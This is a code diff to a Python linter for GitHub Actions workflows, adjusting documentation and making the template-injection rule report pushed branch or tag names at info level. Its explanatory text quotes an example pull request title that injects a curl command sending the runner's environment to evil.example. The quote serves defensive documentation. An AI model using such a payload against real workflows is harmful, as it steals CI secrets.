@@ -6,7 +6,7 @@ import re
 from collections.abc import Iterator
 from typing import Any
 
-from opsmith.findings import Problem
+from opsmith.findings import Problem, Severity
 from opsmith.parse.json_schema import SchemaProblem, schema_problems
 from opsmith.parse.shell import Command
 from opsmith.parse.workflow import Job, Step, Text, WorkflowDoc
@@ -53,7 +53,10 @@ present), keys must not be repeated, every job named in `needs` must exist and `
 form a cycle, step `id`s must be unique within a job, and every `${{ }}` expression must be
 closed, well formed, and use only known contexts (`github`, `env`, `vars`, `secrets`, `needs`,
 `matrix`, `inputs`, `steps`, `job`, `jobs`, `runner`, `strategy`) and functions. Each problem is
-reported on the line of the key it is about.
+reported on the line of the key it is about. A value written once and reused through YAML anchors
+and aliases is checked once against each part of the schema: its problems are listed in full where
+it is first used, and each later use that is invalid is reported once, so a file of nested aliases
+costs what its text costs, not what it expands to.
 
 ## Why it matters
 GitHub rejects an invalid workflow when it is triggered, not when it is pushed: the mistake shows up
@@ -737,6 +740,12 @@ scan. A build stage is only asked for when the repository has something to build
 `pyproject.toml` with a `[build-system]`...); lint and test only when it holds code. The finding is
 placed on the workflow that looks like the main CI.
 
+A job counts as a build when it runs a build tool (`docker build`, `go build`, `mvn package`...) or a
+script or make target named for one: `build`, `compile`, `bundle`, `dist`, `package`, `all`, and
+`generate`, which is the build of repositories whose artifact is generated (jsonnet libraries that
+generate their Kubernetes manifests, static sites). `go generate` alone is code generation, not a
+build.
+
 ## Why it matters
 Each stage catches a different class of failure before it reaches users: lint catches mistakes
 cheaply, tests catch regressions, the build proves the artifact can be produced from a clean
@@ -818,6 +827,12 @@ Values that only pass through a comparison or `contains()` (booleans) are fine, 
 `github.sha`, `github.run_id`, numbers (`(github.event.pull_request || github.event.issue).number`)
 and the like.
 
+The name of the pushed branch or tag (`github.ref`, `github.ref_name`, `github.event.ref`) is
+reported at info in workflows run on `push`, `create`, `release` or `workflow_dispatch`: a ref name
+may hold `$(...)`, `;` or backquotes, but only someone with write access chooses it, and such a
+person can usually change the workflow itself. On other events GitHub sets it
+(`refs/pull/N/merge` on pull requests), so it is not reported there.
+
 ## Why it matters
 GitHub pastes the expression's text into the script before the shell runs it. A pull request titled
 `a"; curl -d "$(env)" https://evil.example #` then runs the attacker's command inside your workflow,
@@ -839,18 +854,27 @@ over.
 ## Equivalent rules
 zizmor `template-injection`; actionlint `expression` (untrusted input checks); checkov CKV_GHA_2 /
 CKV2_GHA_* (shell injection). zizmor also reports, mostly in its pedantic and auditor personas,
-any expression it cannot prove constant: `github.ref` (on `push` only someone who can already change
-the workflow chooses it, and on pull requests it is `refs/pull/N/merge`), `repository_dispatch`
-payloads (sent with a token that can write to the repository), step outputs, `secrets`, static
-matrix and `env` values. opsmith keeps this rule, an error, to text that outsiders write.
+any expression it cannot prove constant: `github.ref` on pull requests (where it is
+`refs/pull/N/merge`), `repository_dispatch` payloads (sent with a token that can write to the
+repository), step outputs, `secrets`, static matrix and `env` values, and matrix values built from
+`github.repository_owner`. opsmith keeps this rule's errors to text that outsiders write, and
+pushed ref names at info (above).
 """,
 )
 def ga007(doc: WorkflowDoc, ctx: FileContext) -> Iterator[Problem]:
     for found in taint.injections(doc):
-        yield Problem(
-            f"`{found.source}` is expanded into {found.where}: whoever writes it can run commands here",
-            found.sink.line_at(found.offset),
-        )
+        line = found.sink.line_at(found.offset)
+        if found.insider:
+            message = (
+                f"`{found.source}` is expanded into {found.where}: a branch or tag name, chosen by whoever "
+                "pushes it, can hold shell syntax"
+            )
+            yield Problem(message, line, at_most=Severity.INFO)
+        else:
+            yield Problem(
+                f"`{found.source}` is expanded into {found.where}: whoever writes it can run commands here",
+                line,
+            )
 
 
 @file_rule(
